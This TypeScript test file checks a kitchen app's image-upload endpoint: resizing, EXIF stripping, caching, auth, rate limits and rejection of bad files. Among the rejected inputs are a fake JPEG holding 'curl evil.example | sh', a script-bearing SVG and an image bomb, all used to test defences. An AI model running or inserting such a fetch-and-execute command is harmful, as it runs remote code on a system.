import { Readable } from 'node:stream';
import sharp from 'sharp';
import { expect, it } from 'vitest';
import type { StoredImage } from '../../shared/images.js';
import { MAX_UPLOAD_BYTES } from '../../shared/images.js';
import { describeEachEngine, signedIn, type TestContext } from '../test/test-app.js';
import { makeBombPng, makePhoneJpeg, makePicture } from '../test/test-images.js';

async function upload(ctx: TestContext, cookie: string | undefined, bytes: Buffer, type = 'image/jpeg') {
  return ctx.app.inject({
    method: 'POST',
    url: '/api/kitchen/images',
    headers: { 'content-type': type, ...(cookie ? { cookie } : {}) },
    payload: bytes,
  });
}

const imageCount = async (ctx: TestContext) => {
  const result = await ctx.database.db.execute<{ n: number }>(
    'select count(*)::int as n from image_variants',
  );
  return (result as unknown as { rows: { n: number }[] }).rows[0]?.n;
};

describeEachEngine('picture uploads', (get) => {
  for (const format of ['jpeg', 'png', 'webp', 'avif'] as const) {
    it(`accepts a ${format} picture and stores WebP sizes up to 1280 wide`, async () => {
      const ctx = get();
      const { cookie } = await signedIn(ctx, 'kitchen');
      const res = await upload(ctx, cookie, await makePicture(format, 1600, 1200), `image/${format}`);
      expect(res.statusCode, res.body).toBe(201);
      const image = res.json<StoredImage>();
      expect(image).toMatchObject({ width: 1280, height: 960, widths: [320, 640, 1280] });
      for (const width of image.widths) {
        const served = await ctx.app.inject({ url: `/images/${image.id}-${width}.webp` });
        expect(served.statusCode).toBe(200);
        expect(served.headers['content-type']).toBe('image/webp');
        expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
        const meta = await sharp(served.rawPayload).metadata();
        expect(meta).toMatchObject({ format: 'webp', width, height: (width * 3) / 4 });
      }
    });
  }

  it('keeps a small picture at its own width', async () => {
    const ctx = get();
    const { cookie } = await signedIn(ctx, 'kitchen');
    const res = await upload(ctx, cookie, await makePicture('png', 500, 300), 'image/png');
    expect(res.json<StoredImage>()).toMatchObject({ width: 500, height: 300, widths: [320, 500] });
  });

  it('turns a phone photo upright and keeps none of its EXIF (no GPS) in any size', async () => {
    const ctx = get();
    const { cookie } = await signedIn(ctx, 'kitchen');
    const photo = await makePhoneJpeg(600, 400);
    const original = await sharp(photo).metadata();
    expect(original.orientation).toBe(6);
    expect(original.exif?.toString('latin1')).toContain('PhoneMaker');
    const image = (await upload(ctx, cookie, photo)).json<StoredImage>();
    // Orientation 6 is a quarter turn: 600 × 400 as stored is 400 × 600 upright.
    expect(image).toMatchObject({ width: 400, height: 600, widths: [320, 400] });
    for (const width of image.widths) {
      const served = await ctx.app.inject({ url: `/images/${image.id}-${width}.webp` });
      const meta = await sharp(served.rawPayload).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.icc).toBeUndefined();
      expect(meta.height).toBeGreaterThan(meta.width);
      expect(served.rawPayload.includes('PhoneMaker')).toBe(false);
    }
  });

  it('answers 304 to a browser that holds the size, and 404 to an unknown one', async () => {
    const ctx = get();
    const { cookie } = await signedIn(ctx, 'kitchen');
    const image = (await upload(ctx, cookie, await makePicture('jpeg'))).json<StoredImage>();
    const url = `/images/${image.id}-320.webp`;
    const first = await ctx.app.inject({ url });
    const etag = String(first.headers.etag);
    expect(etag).toMatch(/^".+"$/);
    const again = await ctx.app.inject({ url, headers: { 'if-none-match': etag } });
    expect(again.statusCode).toBe(304);
    for (const missing of [`/images/${image.id}-999.webp`, '/images/not-a-picture.webp', '/images/../x']) {
      const res = await ctx.app.inject({ url: missing });
      expect(res.statusCode, missing).toBe(404);
      expect(String(res.headers['cache-control'])).not.toContain('immutable');
    }
  });

  const refusals: [string, () => Promise<Buffer>, string, number, string][] = [
    [
      'a script renamed .jpg',
      async () => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
      'image/jpeg',
      415,
      'UNSUPPORTED_IMAGE',
    ],
    [
      'an SVG',
      async () =>
        Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
        ),
      'image/svg+xml',
      415,
      'UNSUPPORTED_IMAGE',
    ],
    [
      'a GIF',
      async () =>
        sharp(await makePicture('png', 20, 20))
          .gif()
          .toBuffer(),
      'image/gif',
      415,
      'UNSUPPORTED_IMAGE',
    ],
    [
      'a truncated JPEG',
      async () => {
        const whole = await makePicture('jpeg', 800, 600);
        return whole.subarray(0, Math.floor(whole.length / 2));
      },
      'image/jpeg',
      400,
      'DAMAGED_IMAGE',
    ],
    ['an image bomb (30000 × 30000 claimed)', () => makeBombPng(), 'image/png', 413, 'IMAGE_TOO_LARGE'],
    [
      'a file over 10 MB',
      async () => Buffer.alloc(MAX_UPLOAD_BYTES + 1, 0xff),
      'image/jpeg',
      413,
      'IMAGE_TOO_LARGE',
    ],
    ['an empty body', async () => Buffer.alloc(0), 'image/jpeg', 400, 'VALIDATION'],
  ];
  for (const [name, make, type, status, code] of refusals) {
    it(`refuses ${name} with ${status}, naming the file, and stores nothing`, async () => {
      const ctx = get();
      const { cookie } = await signedIn(ctx, 'kitchen');
      const before = await imageCount(ctx);
      const res = await upload(ctx, cookie, await make(), type);
      expect(res.statusCode, res.body).toBe(status);
      expect(res.json()).toMatchObject({ code, field: 'file' });
      expect(res.json<{ message: string }>().message.length).toBeGreaterThan(10);
      expect(await imageCount(ctx)).toBe(before);
    });
  }

  it('cuts off a body over 10 MB sent without a length with 413', async () => {
    const ctx = get();
    const { cookie } = await signedIn(ctx, 'kitchen');
    const res = await ctx.app.inject({
      method: 'POST',
      url: '/api/kitchen/images',
      headers: { cookie, 'content-type': 'image/jpeg' },
      payload: Readable.from([Buffer.alloc(MAX_UPLOAD_BYTES), Buffer.alloc(1024)]),
    });
    expect(res.statusCode).toBe(413);
    expect(res.json<{ message: string }>().message).toBeTruthy();
  });

  it('refuses an upload without a kitchen session', async () => {
    const ctx = get();
    const picture = await makePicture('jpeg');
    expect((await upload(ctx, undefined, picture)).statusCode).toBe(401);
    const customer = await signedIn(ctx, 'customer');
    expect((await upload(ctx, customer.cookie, picture)).statusCode).toBe(401);
  });

  it('limits a cook to 30 uploads a minute (429 with Retry-After)', async () => {
    const ctx = get();
    const { cookie } = await signedIn(ctx, 'kitchen');
    const tiny = await makePicture('png', 8, 8);
    const statuses: number[] = [];
    for (let i = 0; i < 31; i++) statuses.push((await upload(ctx, cookie, tiny, 'image/png')).statusCode);
    expect(statuses.slice(0, 30).every((s) => s === 201)).toBe(true);
    const refused = await upload(ctx, cookie, tiny, 'image/png');
    expect(refused.statusCode).toBe(429);
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
    // Another cook is not held back by this one.
    const other = await signedIn(ctx, 'kitchen');
    expect((await upload(ctx, other.cookie, tiny, 'image/png')).statusCode).toBe(201);
  });

  it('leaves the JSON API at 64 KB', async () => {
    const ctx = get();
    const { cookie } = await signedIn(ctx, 'kitchen');
    const res = await ctx.app.inject({
      method: 'POST',
      url: '/api/chat',
      headers: { cookie, 'content-type': 'application/json' },
      payload: JSON.stringify({ text: 'x'.repeat(100_000) }),
    });
    expect(res.statusCode).toBe(413);
  });
});
